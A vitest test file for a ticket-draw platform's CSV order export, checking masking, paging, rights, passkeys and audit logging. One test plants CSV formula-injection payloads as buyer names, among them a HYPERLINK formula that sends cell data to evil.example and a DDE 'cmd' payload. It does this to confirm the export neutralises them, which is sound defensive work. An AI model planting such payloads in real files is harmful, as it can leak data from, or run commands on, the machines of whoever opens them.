import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { listChainEntries } from "@/lib/audit/store";
import type { Context } from "@/lib/context";
import { cancelOrder } from "@/lib/orders/holds/cancel-order";
import type { Buyer } from "@/lib/orders/schema";
import type { Role, Scope } from "@/lib/people/rules.roles";
import { toGrants } from "@/lib/people/rules.roles";
import type { Database } from "@/lib/platform/db/database";
import { requestRefund } from "@/lib/refunds/request-refund";
import type { Right } from "@/lib/rights";
import { openDraw, pay, place } from "@/tests/support/core/orders";
import { planted, plantedTexts } from "@/tests/support/core/planted-person";
import { fillOrders, placeBy } from "@/tests/support/core/terminal";
import { openTestContext } from "@/tests/support/core/test-context";
import { exportOrders } from "./export-orders";
import { exportAction } from "./rules";

const test = await openTestContext();
afterAll(() => test.close());
afterEach(() => {
  vi.restoreAllMocks();
});

const everything: Scope = { kind: "everything" };
const ofDraw = (drawId: string): Scope => ({ kind: "draw", drawId });

function asRole(role: Role, scope = everything, isFresh = true): Context {
  const actor = { kind: "admin", name: "person:p1", grants: toGrants([{ role, scope }]) } as const;
  return { ...test.ctx, actor: { ...actor, person: { id: "p1", isFresh, sessionId: "s1" } } };
}

async function buy(drawId: string, buyer: Buyer = { ...planted, email: "marie@example.com", name: "Marie Roy" }) {
  const order = await placeBy(test.ctx, drawId, { buyer });
  await pay(test.ctx, order);
  return order;
}

/** Keys the cells of each line by the names in the first line. */
function parse(text: string): Record<string, string>[] {
  const [head = [], ...lines] = text
    .replace(/^\u{feff}/u, "")
    .trimEnd()
    .split("\r\n")
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, bare]) => quoted ?? bare),
    );
  return lines.map((cells) => Object.fromEntries(head.map((name, index) => [name, cells[index] ?? ""])));
}

async function textOf(chunks: AsyncGenerator<string>): Promise<string> {
  let text = "";
  for await (const chunk of chunks) text += chunk;
  return text;
}

async function exported(ctx: Context, body: Record<string, unknown>): Promise<string> {
  const answer = await exportOrders(ctx, body);
  return answer.ok ? textOf(answer.text) : answer.reason;
}

const winners = { contacts: { reason: "winners" } };

describe("the CSV of a filter", () => {
  it("has its orders, the latest first, with masked details, local times and what went back", async () => {
    const draw = await openDraw(test, "listed", { timeZone: "America/Vancouver" });
    const refunded = await buy(draw);
    test.clock.advance(1000);
    const paid = await buy(draw);
    await requestRefund(test.admin, refunded, {});
    test.clock.advance(1000);
    await cancelOrder(test.ctx, await place(test, draw));
    const text = await exported(asRole("auditor"), { instanceId: draw });
    expect(text).not.toMatch(/marie@|5550173/);
    const [cancelled, last, first] = parse(text);
    expect(cancelled).toMatchObject({ Status: "Cancelled", "Payment date": "", Refunded: "0" });
    expect(last).toMatchObject({
      ...{ Draw: draw, Order: paid.orderCode, Status: "Paid", "Time zone": "America/Vancouver", Tickets: "1" },
      ...{ Amount: "10", Refunded: "0", "Payment method": "Card", Name: "Marie Roy", Email: "m•••@example.com" },
      ...{ Phone: "••• 0173", Tablet: "", Test: "" },
    });
    expect(last?.["Order date"]).toMatch(/^2026-11-\d\d \d\d:\d\d:\d\d$/);
    expect(first).toMatchObject({ Order: refunded.orderCode, Status: "Refunded", Refunded: "10" });
    expect(parse(await exported(asRole("auditor"), { instanceId: draw, state: "paid" }))).toEqual([last]);
    expect(parse(await exported(asRole("auditor"), { instanceId: draw, to: "2026-11-01" }))).toEqual([]);
    const french = parse(await exported(asRole("auditor"), { instanceId: draw, state: "paid", locale: "fr" }));
    expect(french).toMatchObject([{ Commande: paid.orderCode, État: "Payée", "Mode de paiement": "Carte" }]);
  });

  it("runs no formula that a buyer typed", async () => {
    const draw = await openDraw(test, "formulas");
    const names = ['=HYPERLINK("https://evil.example?"&A1,"Prize")', "+cmd|' /C calc'!A0", "@SUM(A1)", 'Roy";=cmd()'];
    for (const name of names) await buy(draw, { ...planted, name, email: "=cmd@example.com" });
    const text = await exported(asRole("admin"), { instanceId: draw, ...winners });
    expect(text).toContain(`"'=HYPERLINK(`);
    const cells = text.split(/[,;|\r\n"]+/);
    expect(cells.filter((cell) => /^\s*[=+@]/.test(cell))).toEqual([]);
    // Control: these names begin like formulas.
    expect(names.filter((name) => /^[=+@]/.test(name))).toHaveLength(3);
  });

  it("reads page after page as its reader does, each order once, even if many were placed at the same instant", async () => {
    const draw = await openDraw(test, "many");
    await fillOrders(test, draw, { orders: 1203, perSecond: 700 });
    let statements = 0;
    const db: Database = new Proxy(test.ctx.db, {
      get(target, key) {
        if (key === "execute") statements += 1;
        const value = Reflect.get(target, key);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    const answer = await exportOrders({ ...asRole("auditor"), db }, { instanceId: draw });
    if (!answer.ok) throw new Error(answer.reason);
    const before = statements;
    const chunks = [String((await answer.text.next()).value), String((await answer.text.next()).value)];
    expect(statements).toBe(before + 1);
    for await (const chunk of answer.text) chunks.push(chunk);
    const linesOf = chunks.map((chunk) => chunk.split("\r\n").length - 1);
    expect(linesOf).toEqual([1, 500, 500, 203]);
    expect(new Set(parse(chunks.join("")).map(({ Order }) => Order)).size).toBe(1203);
  });

  it.each([
    [{ state: "sold" }, "invalid-input"],
    [{ from: "1999-01-01" }, "invalid-input"],
    [{ contacts: {} }, "invalid-input"],
    [{ contacts: { reason: "curious" } }, "invalid-input"],
    [{ instanceId: "no-such-draw" }, "draw-not-found"],
  ])("is refused for %j", async (body, reason) => {
    expect(await exported(asRole("admin"), body)).toBe(reason);
  });
});

describe("contact details", () => {
  it("need the right for buyers' data, a fresh passkey and a reason", async () => {
    const draw = await openDraw(test, "contacts");
    await buy(draw);
    for (const role of ["Order Manager", "Order Refunder", "auditor"] as const) {
      expect(await exported(asRole(role), { instanceId: draw, ...winners })).toBe("admin-right-missing");
      // Control: the same roles may export without contact details.
      expect(await exported(asRole(role), { instanceId: draw })).toContain("m•••@example.com");
    }
    expect(await exported(asRole("admin", everything, false), { instanceId: draw, ...winners })).toBe(
      "passkey-required",
    );
    expect(await exported(asRole("admin", everything, false), { instanceId: draw })).toContain("m•••@example.com");
    const whole = parse(await exported(asRole("admin"), { instanceId: draw, ...winners }));
    expect(whole).toMatchObject([{ Name: "Marie Roy", Email: "marie@example.com", Phone: "16135550173" }]);
    for (const role of ["Order Email Re-sender", "Teams Manager", "Winner Picker"] as const) {
      expect(await exported(asRole(role), { instanceId: draw })).toBe("admin-right-missing");
    }
    expect(await exported(test.ctx, { instanceId: draw })).toBe("admin-key-wrong");
  });

  it("are of draws in the scope of both rights alone", async () => {
    const [own, browsed, other] = [
      await openDraw(test, "own"),
      await openDraw(test, "browsed"),
      await openDraw(test, "foreign"),
    ];
    for (const draw of [own, browsed, other]) await buy(draw);
    const grants = [
      { rights: ["browse", "people"] as Right[], scope: ofDraw(own) },
      { rights: ["browse"] as Right[], scope: ofDraw(browsed) },
    ];
    const ctx: Context = { ...test.ctx, actor: { kind: "admin", grants } };
    const drawsOf = async (body: object) => {
      const text = await exported(ctx, { ...body });
      return text.startsWith("\u{feff}") ? [...new Set(parse(text).map(({ Draw }) => Draw))] : text;
    };
    expect(await drawsOf({})).toEqual([browsed, own]);
    expect(await drawsOf(winners)).toEqual([own]);
    expect(await drawsOf({ instanceId: browsed, ...winners })).toBe("draw-not-found");
    expect(await drawsOf({ instanceId: other })).toBe("draw-not-found");
  });
});

describe("the history of a draw", () => {
  const entriesOf = (drawId: string) => listChainEntries(test.ctx.db, drawId, [exportAction]);

  it("says who exported how many orders before the first is read, and nothing about buyers; neither does the log", async () => {
    const lines: string[] = [];
    for (const level of ["log", "info", "warn", "error"] as const) {
      vi.spyOn(console, level).mockImplementation((...words) => void lines.push(words.join(" ")));
    }
    const draw = await openDraw(test, "logged");
    for (let one = 0; one < 3; one += 1) await buy(draw, planted);
    await openDraw(test, "empty");
    const answer = await exportOrders(asRole("admin"), { instanceId: draw, ...winners });
    const told = { action: exportAction, actor: "admin", operator: "person:p1" };
    const detail = { orders: 3, contacts: true, reason: "winners" };
    expect(await entriesOf(draw)).toMatchObject([{ ...told, detail }]);
    // This order, placed after the export began, must be in neither file.
    test.clock.advance(10);
    await buy(draw, planted);
    const text = answer.ok ? await textOf(answer.text) : "";
    expect(parse(text)).toHaveLength(3);
    expect(text).toContain(planted.email);
    await exported(asRole("auditor"), { instanceId: draw });
    await exported(asRole("auditor"), { instanceId: "empty" });
    const entries = await entriesOf(draw);
    expect(entries.at(-1)).toMatchObject({ ...told, detail: { orders: 4, contacts: false } });
    expect(await entriesOf("empty")).toEqual([]);
    const written = JSON.stringify(entries) + lines.join("\n");
    for (const secret of plantedTexts) expect(written).not.toContain(secret);
  });

  it("says nothing of an export that was refused", async () => {
    const draw = await openDraw(test, "refused");
    await buy(draw);
    await exported(asRole("Order Manager"), { instanceId: draw, ...winners });
    await exported(asRole("admin", everything, false), { instanceId: draw, ...winners });
    expect(await entriesOf(draw)).toEqual([]);
  });
});
